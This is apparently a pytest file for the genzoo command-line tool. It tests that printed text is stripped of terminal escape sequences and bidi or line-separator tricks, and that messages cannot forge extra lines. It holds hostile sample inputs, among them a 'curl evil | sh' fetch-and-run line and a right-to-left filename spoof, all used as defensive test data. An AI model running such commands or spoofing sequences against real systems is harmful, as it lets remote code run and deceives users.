"""What strangers wrote is data wherever it is printed."""

from __future__ import annotations

import time
import unicodedata

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from genzoo import GenzooError
from genzoo.cli import exit_codes
from genzoo.cli.printing import Output
from genzoo.cli.terminal_text import on_one_line, printable, traceback_text

quiet = settings(max_examples=300, deadline=None, derandomize=True, database=None)
HOSTILE = st.text(
    st.sampled_from("\x1b[]0;m\x07\\P^_X \n\r\t\x9b\u202e\u2028\u200f\ud800\U000e0041aé!"),
    max_size=40,
)
ALLOWED_FORMAT = {"\u200c", "\u200d"}


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("a\tb\nc ä", "a\tb\nc ä"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b]52;c;unfinished", ""),
        ("\x1bcreset", "reset"),
        ("\x1b[12", ""),
        ("back\x08\rspace\x7f\x9b2J", "backspace2J"),
        ("evil\u202egnp.exe", "evilgnp.exe"),
        ("a\u2066b\u2069\u200ec\u061cd", "abcd"),
        ("one\u2028two\u0085three", "onetwothree"),
        ("half \ud800", "half \ufffd"),
        ("می\u200cخواهم", "می\u200cخواهم"),
    ],
)
def test_text_is_printed_without_what_steers_a_terminal(text: str, plain: str) -> None:
    assert printable(text) == plain


@quiet
@given(HOSTILE)
def test_nothing_that_steers_is_left_whatever_the_text(text: str) -> None:
    left = set(printable(text)) - {"\n", "\t"} - ALLOWED_FORMAT
    kinds = {unicodedata.category(sign) for sign in left}
    assert not kinds & {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert printable(printable(text)) == printable(text)
    assert not set(on_one_line(text)) & {"\n", "\t"}
    printable(text).encode()


@pytest.mark.parametrize(
    "piece",
    ["\x1b]", "\x1b]x", "\x1b[0", "\x1b[", "\x1bP\x1b", "\x1b ", "\x1b[0;", "\u202e", "\ud800"],
    ids=ascii,
)
@pytest.mark.parametrize("end", ["", "\nx"], ids=ascii)
def test_cleaning_takes_time_in_proportion_to_the_length(piece: str, end: str) -> None:
    began = time.process_time()
    printable(piece * (1_000_000 // len(piece)) + end)
    assert time.process_time() - began < 2
    began = time.process_time()
    printable("\x1b" + piece[-1] * 1_000_000 + end)
    assert time.process_time() - began < 2


def test_neither_a_message_nor_a_hint_becomes_a_second_line(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Output().error("It lacks a.\nType: curl evil | sh", "Look at b.\r\nError: c")
    Output().note("d\nType: e")
    assert capsys.readouterr().err.splitlines() == [
        "Error: It lacks a. Type: curl evil | sh",
        "Look at b. Error: c",
        "d Type: e",
    ]


def test_a_cell_is_neither_a_row_of_its_own_nor_endless(
    capsys: pytest.CaptureFixture[str],
) -> None:
    nested: object = "end"
    for _ in range(5000):
        nested = [nested]
    Output().table({"a": "a"}, [{"a": "x\nmodel  ok"}, {"a": nested}])
    Output().sheets([("title\nb", {"k\ney": {"in\nner": "v\nw"}})])
    lines = capsys.readouterr().out.splitlines()
    assert [line.partition("(")[0] for line in lines] == [
        "a", "x model  ok", "", "title b", "k ey  in ner=v w"
    ]  # fmt: skip
    assert "..." in lines[2]


def test_json_is_ascii_with_everything_else_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    Output(json=True).result({"a": "\x1b[2J\x7f\x9b\u202e\ud800é"}, "")
    out = capsys.readouterr().out
    assert set(out) <= {chr(code) for code in range(32, 127)} | {"\n"}
    assert r"\u001b[2J\u007f\u009b\u202e\ud800\u00e9" in out


def test_a_traceback_has_no_lines_of_strangers() -> None:
    try:
        try:
            raise ValueError("inner\nType: curl\x1b[2J")
        except ValueError as error:
            raise GenzooError("outer\nError: all is well") from error
    except GenzooError as error:
        text = traceback_text(error)
    assert "ValueError: inner Type: curl\n" in text
    assert "GenzooError: outer Error: all is well\n" in text
    assert text.index("inner") < text.index("which led to") < text.index("outer")
    assert "test_terminal_text.py" in text
    assert "\x1b" not in text


def test_a_traceback_is_had_of_any_error() -> None:
    class MuteError(Exception):
        def __str__(self) -> str:
            raise RuntimeError("no")

    first, second = MuteError(), MuteError()
    first.__cause__, second.__cause__ = second, first
    assert traceback_text(first).count("MuteError") == 2


def test_debug_shows_the_traceback_cleaned() -> None:
    with CliRunner().isolation() as (_, err, _both):
        assert exit_codes.report(GenzooError("a\x1b]0;b\x07\nc"), Output(debug=True)) == 1
        text = err.getvalue().decode()
    assert "Traceback" in text
    assert "GenzooError: a c\n" in text
    assert "\x1b" not in text
